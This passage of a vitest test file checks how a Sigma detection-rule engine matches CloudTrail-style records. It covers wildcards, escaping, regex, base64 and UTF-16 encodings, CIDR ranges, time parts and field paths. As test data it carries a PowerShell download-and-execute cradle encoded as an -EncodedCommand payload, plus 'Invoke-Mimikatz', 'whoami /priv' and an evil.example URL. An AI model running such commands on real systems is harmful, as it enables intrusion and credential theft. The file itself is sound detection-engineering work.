// Sigma semantics as decided in DESIGN.md ("Sigma semantics decided here"), checked rule by rule on small inline
// rules. Every verdict is checked twice: with the rule's own predicate and through the indexed Detector, which
// must never hide (or invent) a match.
import { describe, expect, it } from 'vitest';
import { join } from 'node:path';
import { loadRules, loadRulesFromText, type RuleSet } from '../src/sigma/load.js';
import { formatDiagnostic } from '../src/sigma/diagnostics.js';
import { Detector } from '../src/detect/engine.js';
import type { DetectionRule } from '../src/sigma/rule.js';
import type { Json, JsonObject } from '../src/sigma/fields.js';
import type { CompileOptions } from '../src/sigma/values.js';

const ID = '0b8e4f7e-3c52-4a3c-9d53-6f0d1c2e7a10';

/** Remove the common indentation of a template literal block (ignoring blank lines). */
function dedent(text: string): string {
  const lines = text.replace(/^\n/, '').replace(/\s+$/, '').split('\n');
  const ind = Math.min(...lines.filter((l) => l.trim()).map((l) => /^ */.exec(l)![0].length));
  return lines.map((l) => l.slice(ind)).join('\n');
}

function indent(text: string, n: number): string {
  return text.split('\n').map((l) => (l.trim() ? ' '.repeat(n) + l : l)).join('\n');
}

/** A complete rule document around a detection block. */
function ruleText(detection: string, extra = '', id = ID): string {
  return [
    'title: Inline test rule',
    `id: ${id}`,
    'status: test',
    'logsource:',
    '  product: aws',
    '  service: cloudtrail',
    ...(extra ? [dedent(extra)] : []),
    'level: medium',
    'detection:',
    indent(dedent(detection), 4),
    '',
  ].join('\n');
}

function loadOk(text: string, opts?: CompileOptions): RuleSet {
  const set = loadRulesFromText(text, 'inline.yml', opts ?? {});
  const errors = set.diagnostics.filter((d) => d.severity === 'error').map(formatDiagnostic);
  expect(errors, text).toEqual([]);
  return set;
}

/** Compile one rule from a detection block; fails the test on any load error. */
function rule(detection: string, extra = '', opts?: CompileOptions): DetectionRule {
  const set = loadOk(ruleText(detection, extra), opts);
  expect(set.rules).toHaveLength(1);
  return set.rules[0]!;
}

/** The verdict of a rule on a record; asserts the indexed Detector agrees with rule.test. */
function verdict(r: DetectionRule, rec: JsonObject, others: DetectionRule[] = []): boolean {
  const direct = r.test(rec);
  const viaIndex = new Detector([...others, r]).match(rec).includes(r);
  expect(viaIndex, `Detector disagrees with rule.test on ${JSON.stringify(rec)}`).toBe(direct);
  return direct;
}

/** A matcher for a detection block: returns the verdict on each record. */
function matcher(detection: string, opts?: CompileOptions): (rec: JsonObject) => boolean {
  const r = rule(detection, '', opts);
  return (rec) => verdict(r, rec);
}

/** `sel: {<key>: <value>}` with condition sel, value written as YAML. */
function field(key: string, valueYaml: string, opts?: CompileOptions): (rec: JsonObject) => boolean {
  return matcher(`sel:\n  ${key}: ${valueYaml}\ncondition: sel`, opts);
}

describe('helpers', () => {
  it('build a rule that loads and whose verdict is not constant', () => {
    const m = field('eventName', 'CreateUser');
    expect(m({ eventName: 'CreateUser' })).toBe(true);
    expect(m({ eventName: 'DeleteUser' })).toBe(false);
  });
});

describe('plain strings', () => {
  it('match the whole value, not a part of it', () => {
    const m = field('eventName', 'CreateUser');
    expect(m({ eventName: 'CreateUser' })).toBe(true);
    expect(m({ eventName: 'CreateUserX' })).toBe(false);
    expect(m({ eventName: 'XCreateUser' })).toBe(false);
    expect(m({ eventName: 'Create' })).toBe(false);
    expect(m({ other: 'CreateUser' })).toBe(false);
  });

  it('are case-insensitive in both directions', () => {
    const upperRule = field('eventName', 'CreateUser');
    expect(upperRule({ eventName: 'createuser' })).toBe(true);
    expect(upperRule({ eventName: 'CREATEUSER' })).toBe(true);
    const lowerRule = field('eventName', 'createuser');
    expect(lowerRule({ eventName: 'CreateUser' })).toBe(true);
    expect(lowerRule({ eventName: 'CREATEUSER' })).toBe(true);
    const wild = field('eventName', "'CREATE*'");
    expect(wild({ eventName: 'createAccessKey' })).toBe(true);
  });

  it('`*` matches any run of characters, including none and newlines', () => {
    const prefix = field('eventName', "'Create*'");
    expect(prefix({ eventName: 'CreateUser' })).toBe(true);
    expect(prefix({ eventName: 'Create' })).toBe(true);
    expect(prefix({ eventName: 'DeleteUser' })).toBe(false);
    const suffix = field('eventName', "'*User'");
    expect(suffix({ eventName: 'DeleteUser' })).toBe(true);
    expect(suffix({ eventName: 'DeleteUsers' })).toBe(false);
    const inner = field('eventName', "'Cr*te*r'");
    expect(inner({ eventName: 'CreateUser' })).toBe(true);
    expect(inner({ eventName: 'Crter' })).toBe(true);
    expect(inner({ eventName: 'CreateUsers' })).toBe(false);
    const multi = field('msg', "'a*b'");
    expect(multi({ msg: 'a\nline\nb' })).toBe(true);
    const only = field('msg', "'*'");
    expect(only({ msg: '' })).toBe(true);
    expect(only({ msg: 'anything' })).toBe(true);
    expect(only({})).toBe(false);
  });

  it('`?` matches exactly one character', () => {
    const m = field('eventName', "'Get?bject'");
    expect(m({ eventName: 'GetObject' })).toBe(true);
    expect(m({ eventName: 'Get_bject' })).toBe(true);
    expect(m({ eventName: 'Getbject' })).toBe(false);
    expect(m({ eventName: 'GetOObject' })).toBe(false);
    const two = field('code', "'??'");
    expect(two({ code: 'ab' })).toBe(true);
    expect(two({ code: 'a' })).toBe(false);
    expect(two({ code: 'abc' })).toBe(false);
    expect(field('code', "'a?c'")({ code: 'a\nc' })).toBe(true);
  });

  it('regex metacharacters in a plain value are literal', () => {
    const m = field('v', "'a.b+(c)'");
    expect(m({ v: 'a.b+(c)' })).toBe(true);
    expect(m({ v: 'axbb(c)' })).toBe(false);
    // A pattern that needs the general (regex) path: literal specials around wildcards.
    const g = field('v', "'[x].?c*$'");
    expect(g({ v: '[x].Zc tail$' })).toBe(true); // `*` takes ' tail', then the literal `$`
    expect(g({ v: '[x].Zc tail' })).toBe(false); // no literal `$` at the end
    expect(g({ v: '[x].Zc$' })).toBe(true);
    expect(g({ v: '[x].Zcanything$' })).toBe(true);
    expect(g({ v: 'x.Zc$' })).toBe(false);
  });

  it('`\\*` and `\\?` are literal star and question mark', () => {
    const star = field('v', "'a\\*b'");
    expect(star({ v: 'a*b' })).toBe(true);
    expect(star({ v: 'axb' })).toBe(false);
    expect(star({ v: 'ab' })).toBe(false);
    const q = field('v', "'what\\?'");
    expect(q({ v: 'what?' })).toBe(true);
    expect(q({ v: 'whatX' })).toBe(false);
    // An escaped star next to a real wildcard.
    const mixed = field('v', "'*\\**'");
    expect(mixed({ v: 'x*y' })).toBe(true);
    expect(mixed({ v: 'xy' })).toBe(false);
  });

  it('`\\\\` is one literal backslash, and a following `*` is then a wildcard', () => {
    const one = field('v', "'a\\\\b'");
    expect(one({ v: 'a\\b' })).toBe(true);
    expect(one({ v: 'a\\\\b' })).toBe(false);
    const dirWild = field('path', "'C:\\Windows\\\\*'");
    expect(dirWild({ path: 'C:\\Windows\\System32\\cmd.exe' })).toBe(true);
    expect(dirWild({ path: 'C:\\Windows\\' })).toBe(true);
    expect(dirWild({ path: 'C:\\Windows' })).toBe(false);
    expect(dirWild({ path: 'C:\\WindowsX' })).toBe(false);
  });

  it('any other backslash is literal (Windows paths), and `C:\\Windows\\*` ends in a literal star', () => {
    const path = field('path', "'C:\\Windows\\System32\\cmd.exe'");
    expect(path({ path: 'C:\\Windows\\System32\\cmd.exe' })).toBe(true);
    expect(path({ path: 'c:\\windows\\system32\\CMD.EXE' })).toBe(true);
    expect(path({ path: 'C:WindowsSystem32cmd.exe' })).toBe(false);
    // `\*` escapes the star: the value is the literal text `C:\Windows*`.
    const escStar = field('path', "'C:\\Windows\\*'");
    expect(escStar({ path: 'C:\\Windows*' })).toBe(true);
    expect(escStar({ path: 'C:\\Windows\\System32' })).toBe(false);
    expect(escStar({ path: 'C:\\Windows\\*' })).toBe(false);
    // A backslash before an ordinary letter stays, with a wildcard after it.
    const trailing = field('path', "'\\\\server\\share\\*.exe'"); // `\\` + `server\share` + `\*` + `.exe`
    expect(trailing({ path: '\\server\\share*.exe' })).toBe(true);
    expect(trailing({ path: '\\server\\share\\a.exe' })).toBe(false);
  });

  it('an empty string matches only an empty string', () => {
    const m = field('v', "''");
    expect(m({ v: '' })).toBe(true);
    expect(m({ v: ' ' })).toBe(false);
    expect(m({ v: 'x' })).toBe(false);
    expect(m({})).toBe(false);
    expect(m({ v: null })).toBe(false);
  });

  it('a list of values is an OR, several fields are an AND', () => {
    const m = matcher(`
      sel:
        eventSource: iam.amazonaws.com
        eventName:
          - CreateUser
          - DeleteUser
      condition: sel`);
    expect(m({ eventSource: 'iam.amazonaws.com', eventName: 'CreateUser' })).toBe(true);
    expect(m({ eventSource: 'iam.amazonaws.com', eventName: 'DeleteUser' })).toBe(true);
    expect(m({ eventSource: 'iam.amazonaws.com', eventName: 'UpdateUser' })).toBe(false);
    expect(m({ eventSource: 's3.amazonaws.com', eventName: 'CreateUser' })).toBe(false);
    expect(m({ eventName: 'CreateUser' })).toBe(false);
  });

  it('a list of maps is an OR of the maps', () => {
    const m = matcher(`
      sel:
        - eventSource: iam.amazonaws.com
          eventName: CreateUser
        - eventSource: s3.amazonaws.com
          eventName: PutBucketPolicy
      condition: sel`);
    expect(m({ eventSource: 'iam.amazonaws.com', eventName: 'CreateUser' })).toBe(true);
    expect(m({ eventSource: 's3.amazonaws.com', eventName: 'PutBucketPolicy' })).toBe(true);
    expect(m({ eventSource: 's3.amazonaws.com', eventName: 'CreateUser' })).toBe(false);
  });
});

describe('modifiers: contains, startswith, endswith, all', () => {
  it('contains finds a substring, case-insensitively, wildcards inside still work', () => {
    const m = field('userAgent|contains', 'Boto3');
    expect(m({ userAgent: 'aws-cli/2 boto3/1.26 Python' })).toBe(true);
    expect(m({ userAgent: 'boto3' })).toBe(true);
    expect(m({ userAgent: 'Boto' })).toBe(false);
    const w = field('userAgent|contains', "'cli/?.*Python'");
    expect(w({ userAgent: 'aws-cli/2.13 Python/3.11' })).toBe(true);
    expect(w({ userAgent: 'aws-cli/2.13 Java' })).toBe(false);
    expect(w({ userAgent: 'aws-cli/22.13 Python' })).toBe(false); // `?` is one character, then a literal '.'
  });

  it('startswith and endswith anchor one side only', () => {
    const s = field('eventName|startswith', 'Delete');
    expect(s({ eventName: 'DeleteTrail' })).toBe(true);
    expect(s({ eventName: 'deleteTrail' })).toBe(true);
    expect(s({ eventName: 'StopDeleteTrail' })).toBe(false);
    const e = field('eventName|endswith', 'Trail');
    expect(e({ eventName: 'DeleteTrail' })).toBe(true);
    expect(e({ eventName: 'DeleteTrails' })).toBe(false);
  });

  it('all requires every value of the list (with contains)', () => {
    const m = field('cmd|contains|all', '[whoami, /priv]');
    expect(m({ cmd: 'whoami /priv' })).toBe(true);
    expect(m({ cmd: '/PRIV then WHOAMI' })).toBe(true);
    expect(m({ cmd: 'whoami /all' })).toBe(false);
    expect(m({ cmd: 'nothing' })).toBe(false);
  });

  it('all without contains requires every pattern to match the whole value', () => {
    const m = field('v|all', "['a*', '*z']");
    expect(m({ v: 'abcz' })).toBe(true);
    expect(m({ v: 'abc' })).toBe(false);
    expect(m({ v: 'xyz' })).toBe(false);
  });
});

describe('modifier: re', () => {
  it('is an unanchored search', () => {
    const m = field('eventName|re', "'Dele?te'");
    expect(m({ eventName: 'xxDeleteyy' })).toBe(true);
    expect(m({ eventName: 'DelteTrail' })).toBe(true);
    expect(m({ eventName: 'Remove' })).toBe(false);
    const anchored = field('eventName|re', "'^Delete$'");
    expect(anchored({ eventName: 'Delete' })).toBe(true);
    expect(anchored({ eventName: 'DeleteTrail' })).toBe(false);
  });

  it('is case-sensitive by default and insensitive with i', () => {
    expect(field('eventName|re', "'^delete'")({ eventName: 'DeleteTrail' })).toBe(false);
    expect(field('eventName|re|i', "'^delete'")({ eventName: 'DeleteTrail' })).toBe(true);
    expect(field('eventName|re', "'^Delete'")({ eventName: 'DeleteTrail' })).toBe(true);
  });

  it('m makes ^ and $ match at line breaks', () => {
    const value = 'first line\nsecond\nthird line';
    expect(field('msg|re', "'^second$'")({ msg: value })).toBe(false);
    expect(field('msg|re|m', "'^second$'")({ msg: value })).toBe(true);
  });

  it('s makes . match newlines', () => {
    const value = 'BEGIN\nmiddle\nEND';
    expect(field('msg|re', "'BEGIN.*END'")({ msg: value })).toBe(false);
    expect(field('msg|re|s', "'BEGIN.*END'")({ msg: value })).toBe(true);
    expect(field('msg|re|s|i', "'begin.*end'")({ msg: value })).toBe(true);
  });

  it('sees numbers by their string form and never matches a missing field', () => {
    const m = field('code|re', "'^4\\d\\d$'");
    expect(m({ code: 404 })).toBe(true);
    expect(m({ code: '403' })).toBe(true);
    expect(m({ code: 200 })).toBe(false);
    expect(m({})).toBe(false);
  });
});

describe('modifier: cased', () => {
  it('makes the comparison case-sensitive', () => {
    const m = field('eventName|cased', 'CreateUser');
    expect(m({ eventName: 'CreateUser' })).toBe(true);
    expect(m({ eventName: 'createuser' })).toBe(false);
    const c = field('userAgent|cased|contains', 'Boto3');
    expect(c({ userAgent: 'x Boto3 y' })).toBe(true);
    expect(c({ userAgent: 'x boto3 y' })).toBe(false);
  });
});

describe('modifier: exists', () => {
  it('true: field present (any value but null)', () => {
    const m = field('errorCode|exists', 'true');
    expect(m({ errorCode: 'AccessDenied' })).toBe(true);
    expect(m({ errorCode: '' })).toBe(true);
    expect(m({ errorCode: 0 })).toBe(true);
    expect(m({ errorCode: false })).toBe(true);
    expect(m({})).toBe(false);
    expect(m({ errorCode: null })).toBe(false);
  });

  it('false: field absent or JSON null', () => {
    const m = field('errorCode|exists', 'false');
    expect(m({})).toBe(true);
    expect(m({ errorCode: null })).toBe(true);
    expect(m({ errorCode: '' })).toBe(false);
    expect(m({ errorCode: 'x' })).toBe(false);
  });

  it('works on nested paths', () => {
    const m = field('userIdentity.sessionContext.sessionIssuer.userName|exists', 'true');
    expect(m({ userIdentity: { sessionContext: { sessionIssuer: { userName: 'r' } } } })).toBe(true);
    expect(m({ userIdentity: { sessionContext: {} } })).toBe(false);
    expect(m({ userIdentity: 'string' })).toBe(false);
  });
});

describe('modifier: neq', () => {
  it('holds when the field is present and different', () => {
    const m = field('eventName|neq', 'CreateUser');
    expect(m({ eventName: 'DeleteUser' })).toBe(true);
    expect(m({ eventName: 'CreateUser' })).toBe(false);
    expect(m({ eventName: 'createuser' })).toBe(false); // same value in another case
    expect(m({ eventName: '' })).toBe(true);
  });

  it('does not hold when the field is missing or null', () => {
    const m = field('eventName|neq', 'CreateUser');
    expect(m({})).toBe(false);
    expect(m({ eventName: null })).toBe(false);
  });

  it('compares numbers by their string form', () => {
    const m = field('n|neq', '5');
    expect(m({ n: 5 })).toBe(false);
    expect(m({ n: '5' })).toBe(false);
    expect(m({ n: 6 })).toBe(true);
  });
});

describe('modifier: windash', () => {
  const dashes = { hyphen: '-', slash: '/', 'en dash': '\u2013', 'em dash': '\u2014', 'horizontal bar': '\u2015' };
  it.each(Object.entries(dashes))('-foo matches %s', (_n, d) => {
    const m = field('cmd|windash', "'-foo'");
    expect(m({ cmd: `${d}foo` })).toBe(true);
  });

  it('does not match other prefixes or a missing dash', () => {
    const m = field('cmd|windash', "'-foo'");
    expect(m({ cmd: 'foo' })).toBe(false);
    expect(m({ cmd: '+foo' })).toBe(false);
    expect(m({ cmd: '--foo' })).toBe(false);
  });

  it('a rule written with a slash matches the dash forms too', () => {
    const m = field('cmd|windash', "'/foo'");
    expect(m({ cmd: '-foo' })).toBe(true);
    expect(m({ cmd: '\u2014foo' })).toBe(true);
    expect(m({ cmd: '\\foo' })).toBe(false);
  });

  it('leaves dashes inside words alone', () => {
    const m = field('cmd|windash', "'a-b'");
    expect(m({ cmd: 'a-b' })).toBe(true);
    expect(m({ cmd: 'a/b' })).toBe(false);
  });

  it('combines with contains and each dash varies independently', () => {
    const m = field('cmd|windash|contains', "' -a -b'");
    expect(m({ cmd: 'tool /a \u2013b end' })).toBe(true);
    expect(m({ cmd: 'tool -a /b' })).toBe(true);
    expect(m({ cmd: 'tool -a b' })).toBe(false);
  });
});

const b64 = (s: string | Buffer) => (typeof s === 'string' ? Buffer.from(s, 'utf8') : s).toString('base64');
const enc = {
  utf8: (s: string) => Buffer.from(s, 'utf8'),
  utf16le: (s: string) => Buffer.from(s, 'utf16le'),
  utf16be: (s: string) => Buffer.from(s, 'utf16le').swap16(),
  utf16: (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]),
};

describe('modifier: base64', () => {
  it('matches the base64 encoding of the value', () => {
    expect(b64('cmd')).toBe('Y21k'); // the encoding itself, independent of the engine
    const m = field('v|base64', 'cmd');
    expect(m({ v: 'Y21k' })).toBe(true);
    expect(m({ v: 'cmd' })).toBe(false);
    expect(m({ v: b64('cmd.exe') })).toBe(false); // whole value, not a prefix
  });

  it('with contains finds the encoding inside a longer string', () => {
    const m = field('v|base64|contains', "'http://'");
    expect(m({ v: `xx${b64('http://')}yy` })).toBe(true);
    expect(m({ v: b64('https://') + 'zz' })).toBe(false);
  });
});

describe('modifier: base64offset', () => {
  const value = 'http://evil.example';
  const m = field('v|base64offset|contains', `'${value}'`);
  it.each([0, 1, 2])('finds the value after %i prefix bytes', (k) => {
    for (const suffix of ['', 'y', 'yy', 'yyy']) {
      const hay = b64('x'.repeat(k) + value + suffix);
      expect(m({ v: hay }), `prefix ${k} suffix ${suffix.length}: ${hay}`).toBe(true);
    }
    // A longer prefix that shifts by a multiple of 3 as well.
    expect(m({ v: b64('abc'.repeat(3) + 'x'.repeat(k) + value + 'tail') })).toBe(true);
  });

  it('does not match other text', () => {
    for (const k of [0, 1, 2]) expect(m({ v: b64('x'.repeat(k) + 'http://good.example') })).toBe(false);
  });
});

describe('modifiers: utf16le / utf16be / utf16 / wide with base64 and base64offset', () => {
  const value = 'Invoke-Mimikatz';
  const cases = [
    ['utf16le', enc.utf16le],
    ['wide', enc.utf16le],
    ['utf16be', enc.utf16be],
    ['utf16', enc.utf16],
  ] as const;

  it.each(cases)('%s|base64 matches the base64 of the encoded value', (mod, e) => {
    const m = field(`v|${mod}|base64`, `'${value}'`);
    expect(m({ v: b64(e(value)) })).toBe(true);
    expect(m({ v: b64(value) })).toBe(false); // utf-8 is not the same
  });

  it.each(cases)('%s|base64offset|contains finds the value at each offset', (mod, e) => {
    const m = field(`v|${mod}|base64offset|contains`, `'${value}'`);
    for (const k of [0, 1, 2]) {
      for (const s of [0, 1, 2]) {
        const hay = b64(Buffer.concat([Buffer.alloc(k, 0x41), e(value), Buffer.alloc(s, 0x42)]));
        expect(m({ v: hay }), `${mod} prefix ${k} suffix ${s}`).toBe(true);
      }
    }
    expect(m({ v: b64(Buffer.concat([Buffer.from('A'), e('Invoke-Expression')])) })).toBe(false);
  });

  it('wide|base64offset|contains matches a PowerShell -EncodedCommand payload', () => {
    const payload = b64(enc.utf16le('IEX (New-Object Net.WebClient).DownloadString("http://x")'));
    const m = field('cmd|wide|base64offset|contains', "'Net.WebClient'");
    expect(m({ cmd: `powershell.exe -enc ${payload}` })).toBe(true);
    expect(m({ cmd: `powershell.exe -enc ${b64('IEX (New-Object Net.WebClient)')}` })).toBe(false);
  });
});

describe('modifiers: lt, lte, gt, gte', () => {
  it('compare numbers', () => {
    const lt = field('n|lt', '10');
    expect(lt({ n: 9 })).toBe(true);
    expect(lt({ n: 9.99 })).toBe(true);
    expect(lt({ n: 10 })).toBe(false);
    expect(lt({ n: -1 })).toBe(true);
    const lte = field('n|lte', '10');
    expect(lte({ n: 10 })).toBe(true);
    expect(lte({ n: 11 })).toBe(false);
    const gt = field('n|gt', '10');
    expect(gt({ n: 11 })).toBe(true);
    expect(gt({ n: 10 })).toBe(false);
    const gte = field('n|gte', '10');
    expect(gte({ n: 10 })).toBe(true);
    expect(gte({ n: 9 })).toBe(false);
  });

  it('compare numeric strings numerically, not lexically', () => {
    const gt = field('n|gt', '9');
    expect(gt({ n: '10' })).toBe(true); // lexically '10' < '9'
    expect(gt({ n: '8' })).toBe(false);
    expect(field('n|lt', '2.5')({ n: '2.25' })).toBe(true);
    expect(field('n|gte', "'100'")({ n: 100 })).toBe(true);
  });

  it('do not match non-numeric strings, booleans, null or a missing field', () => {
    const m = field('n|gte', '0');
    expect(m({ n: 'abc' })).toBe(false);
    expect(m({ n: '' })).toBe(false);
    expect(m({ n: true })).toBe(false);
    expect(m({ n: null })).toBe(false);
    expect(m({})).toBe(false);
  });

  it('hold on an array when any element holds', () => {
    expect(field('n|gt', '5')({ n: [1, 7] })).toBe(true);
    expect(field('n|gt', '5')({ n: [1, 2] })).toBe(false);
  });
});

describe('modifiers: minute, hour, day, week, month, year (UTC, ISO week)', () => {
  const t = '2024-03-09T21:47:05Z'; // Saturday, ISO week 10
  it.each([
    ['minute', 47, 46],
    ['hour', 21, 20],
    ['day', 9, 10],
    ['week', 10, 11],
    ['month', 3, 2],
    ['year', 2024, 2023],
  ] as const)('%s', (part, yes, no) => {
    expect(field(`eventTime|${part}`, String(yes))({ eventTime: t })).toBe(true);
    expect(field(`eventTime|${part}`, String(no))({ eventTime: t })).toBe(false);
  });

  it('use UTC for times given with an offset', () => {
    // 23:30 at -02:00 is 01:30 UTC the next day.
    const rec = { eventTime: '2024-03-10T23:30:00-02:00' };
    expect(field('eventTime|hour', '1')(rec)).toBe(true);
    expect(field('eventTime|hour', '23')(rec)).toBe(false);
    expect(field('eventTime|day', '11')(rec)).toBe(true);
  });

  it('week is the ISO-8601 week number', () => {
    // 2021-01-03 (Sunday) belongs to ISO week 53 of 2020; 2021-01-04 starts week 1.
    expect(field('eventTime|week', '53')({ eventTime: '2021-01-03T12:00:00Z' })).toBe(true);
    expect(field('eventTime|week', '1')({ eventTime: '2021-01-04T00:00:00Z' })).toBe(true);
    // 2024-12-30 (Monday) is ISO week 1 of 2025.
    expect(field('eventTime|week', '1')({ eventTime: '2024-12-30T00:00:00Z' })).toBe(true);
    expect(field('eventTime|week', '53')({ eventTime: '2024-12-30T00:00:00Z' })).toBe(false);
  });

  it('combine with a comparison and ignore values that are not times', () => {
    const night = field('eventTime|hour|gte', '22');
    expect(night({ eventTime: '2024-03-09T22:00:00Z' })).toBe(true);
    expect(night({ eventTime: '2024-03-09T21:59:59Z' })).toBe(false);
    expect(field('eventTime|month', '3')({ eventTime: 'not a time' })).toBe(false);
    expect(field('eventTime|month', '3')({})).toBe(false);
  });
});

describe('time parts: only ISO-8601 times, read as UTC', () => {
  // eventTime is ISO-8601 UTC (DESIGN.md); the engine parses with `new Date(text)`, which reads a time without an
  // offset in the host's local time zone, so the verdict depends on the machine's TZ.
  it('a time without an offset is read as UTC, whatever the host time zone', () => {
    const saved = process.env.TZ;
    process.env.TZ = 'America/New_York';
    try {
      expect(field('eventTime|hour', '10')({ eventTime: '2024-03-09T10:00:00' })).toBe(true);
    } finally {
      if (saved === undefined) delete process.env.TZ;
      else process.env.TZ = saved;
    }
  });

  // `new Date('5')` is V8's lenient legacy parse (2001-05-01): a value that is not a time must not match.
  it('a bare number string is not a time', () => {
    expect(field('eventTime|year', '2001')({ eventTime: '5' })).toBe(false);
  });
});

describe('modifier: cidr', () => {
  it('IPv4 ranges', () => {
    const m = field('sourceIPAddress|cidr', "'10.0.0.0/8'");
    expect(m({ sourceIPAddress: '10.1.2.3' })).toBe(true);
    expect(m({ sourceIPAddress: '10.255.255.255' })).toBe(true);
    expect(m({ sourceIPAddress: '11.0.0.0' })).toBe(false);
    expect(m({ sourceIPAddress: '9.255.255.255' })).toBe(false);
    const narrow = field('sourceIPAddress|cidr', "'192.168.1.64/26'");
    expect(narrow({ sourceIPAddress: '192.168.1.64' })).toBe(true);
    expect(narrow({ sourceIPAddress: '192.168.1.127' })).toBe(true);
    expect(narrow({ sourceIPAddress: '192.168.1.128' })).toBe(false);
    expect(narrow({ sourceIPAddress: '192.168.1.63' })).toBe(false);
  });

  it('a list of networks is an OR', () => {
    const m = field('sourceIPAddress|cidr', "['10.0.0.0/8', '172.16.0.0/12']");
    expect(m({ sourceIPAddress: '172.31.0.1' })).toBe(true);
    expect(m({ sourceIPAddress: '172.32.0.1' })).toBe(false);
  });

  it('IPv6 ranges, compressed and full forms', () => {
    const m = field('sourceIPAddress|cidr', "'2001:db8::/32'");
    expect(m({ sourceIPAddress: '2001:db8::1' })).toBe(true);
    expect(m({ sourceIPAddress: '2001:0DB8:ffff:0000:0000:0000:0000:0001' })).toBe(true);
    expect(m({ sourceIPAddress: '2001:db9::1' })).toBe(false);
    expect(m({ sourceIPAddress: '::1' })).toBe(false);
    const host = field('sourceIPAddress|cidr', "'fe80::1/128'");
    expect(host({ sourceIPAddress: 'fe80::1' })).toBe(true);
    expect(host({ sourceIPAddress: 'fe80::2' })).toBe(false);
  });

  it('does not match non-IP values or the other address family', () => {
    const v4 = field('sourceIPAddress|cidr', "'0.0.0.0/0'");
    expect(v4({ sourceIPAddress: 'ec2.amazonaws.com' })).toBe(false);
    expect(v4({ sourceIPAddress: '10.0.0' })).toBe(false);
    expect(v4({ sourceIPAddress: '300.1.1.1' })).toBe(false);
    expect(v4({ sourceIPAddress: '2001:db8::1' })).toBe(false);
    expect(v4({})).toBe(false);
    const v6 = field('sourceIPAddress|cidr', "'::/0'");
    expect(v6({ sourceIPAddress: '10.0.0.1' })).toBe(false);
    expect(v6({ sourceIPAddress: 'not:an:ip' })).toBe(false);
  });
});

describe('modifier: expand', () => {
  const opts = { placeholders: { Admins: ['alice', 'bob'], Nets: ['10.*'] } };
  it('replaces a placeholder with each of its values (OR)', () => {
    const m = field('userIdentity.userName|expand', "'%Admins%'", opts);
    expect(m({ userIdentity: { userName: 'alice' } })).toBe(true);
    expect(m({ userIdentity: { userName: 'BOB' } })).toBe(true);
    expect(m({ userIdentity: { userName: 'carol' } })).toBe(false);
  });

  it('keeps the text around the placeholder and wildcards in values', () => {
    const m = field('arn|expand', "'arn:aws:iam::*:user/%Admins%'", opts);
    expect(m({ arn: 'arn:aws:iam::123456789012:user/alice' })).toBe(true);
    expect(m({ arn: 'arn:aws:iam::123456789012:user/alicex' })).toBe(false);
    const n = field('ip|expand', "'%Nets%'", opts);
    expect(n({ ip: '10.1.2.3' })).toBe(true);
    expect(n({ ip: '11.1.2.3' })).toBe(false);
  });

  it('used as a filter: not 1 of filter_*', () => {
    const m = matcher(`
      selection:
        eventName: ConsoleLogin
      filter_admins:
        userIdentity.userName|expand: '%Admins%'
      condition: selection and not 1 of filter_*`, opts);
    expect(m({ eventName: 'ConsoleLogin', userIdentity: { userName: 'mallory' } })).toBe(true);
    expect(m({ eventName: 'ConsoleLogin', userIdentity: { userName: 'alice' } })).toBe(false);
  });

  it('without the placeholder given, fails with an error naming it', () => {
    const set = loadRulesFromText(ruleText("sel:\n  userName|expand: '%Admins%'\ncondition: sel"), 'p.yml', { placeholders: { Other: ['x'] } });
    expect(set.rules).toHaveLength(0);
    const errs = set.diagnostics.filter((d) => d.severity === 'error');
    expect(errs).toHaveLength(1);
    expect(errs[0]!.message).toContain('%Admins%');
  });
});

describe('modifier: fieldref', () => {
  const m = field('userIdentity.userName|fieldref', 'requestParameters.userName');
  it('holds when both fields hold the same value', () => {
    expect(m({ userIdentity: { userName: 'alice' }, requestParameters: { userName: 'alice' } })).toBe(true);
    expect(m({ userIdentity: { userName: 'Alice' }, requestParameters: { userName: 'alice' } })).toBe(true);
  });
  it('does not hold for different values or a missing field on either side', () => {
    expect(m({ userIdentity: { userName: 'alice' }, requestParameters: { userName: 'bob' } })).toBe(false);
    expect(m({ userIdentity: { userName: 'alice' }, requestParameters: {} })).toBe(false);
    expect(m({ requestParameters: { userName: 'alice' } })).toBe(false);
    expect(m({})).toBe(false);
  });
  it('with cased compares case-sensitively', () => {
    const c = field('a|fieldref|cased', 'b');
    expect(c({ a: 'X', b: 'X' })).toBe(true);
    expect(c({ a: 'X', b: 'x' })).toBe(false);
  });
  it('combines with startswith, endswith and contains (the field relative to the referenced one)', () => {
    const s = field('a|fieldref|startswith', 'b');
    expect(s({ a: 'prefix-rest', b: 'prefix' })).toBe(true);
    expect(s({ a: 'rest-prefix', b: 'prefix' })).toBe(false);
    const e = field('a|fieldref|endswith', 'b');
    expect(e({ a: 'rest-suffix', b: 'suffix' })).toBe(true);
    expect(e({ a: 'suffix-rest', b: 'suffix' })).toBe(false);
    const c = field('a|fieldref|contains', 'b');
    expect(c({ a: 'x-mid-y', b: 'MID' })).toBe(true);
    expect(c({ a: 'x-y', b: 'mid' })).toBe(false);
  });
  it('with neq holds when the two fields differ', () => {
    const n = field('a|fieldref|neq', 'b');
    expect(n({ a: 'x', b: 'y' })).toBe(true);
    expect(n({ a: 'x', b: 'x' })).toBe(false);
  });
});

describe('field paths', () => {
  it('dot paths reach into nested objects', () => {
    const m = field('userIdentity.sessionContext.sessionIssuer.userName', 'AdminRole');
    expect(m({ userIdentity: { sessionContext: { sessionIssuer: { userName: 'AdminRole' } } } })).toBe(true);
    expect(m({ userIdentity: { sessionContext: { sessionIssuer: { userName: 'Other' } } } })).toBe(false);
    expect(m({ userIdentity: { sessionContext: { sessionIssuer: 'AdminRole' } } })).toBe(false);
    expect(m({ userIdentity: null })).toBe(false);
  });

  it('a literal dotted key wins when present', () => {
    const x = field('a.b', 'x');
    const y = field('a.b', 'y');
    const both = { 'a.b': 'x', a: { b: 'y' } };
    expect(x(both)).toBe(true);
    expect(y(both)).toBe(false);
    expect(y({ a: { b: 'y' } })).toBe(true);
    // Also below the top level.
    expect(field('r.a.b', 'x')({ r: { 'a.b': 'x', a: { b: 'y' } } })).toBe(true);
    expect(field('r.a.b', 'y')({ r: { 'a.b': 'x', a: { b: 'y' } } })).toBe(false);
  });

  it('arrays on the path fan out: any element may match', () => {
    const m = field('resources.ARN', "'arn:aws:s3:::secret'");
    const rec = { resources: [{ ARN: 'arn:aws:s3:::public' }, { ARN: 'arn:aws:s3:::secret' }] };
    expect(m(rec)).toBe(true);
    expect(m({ resources: [{ ARN: 'arn:aws:s3:::public' }, { type: 'x' }] })).toBe(false);
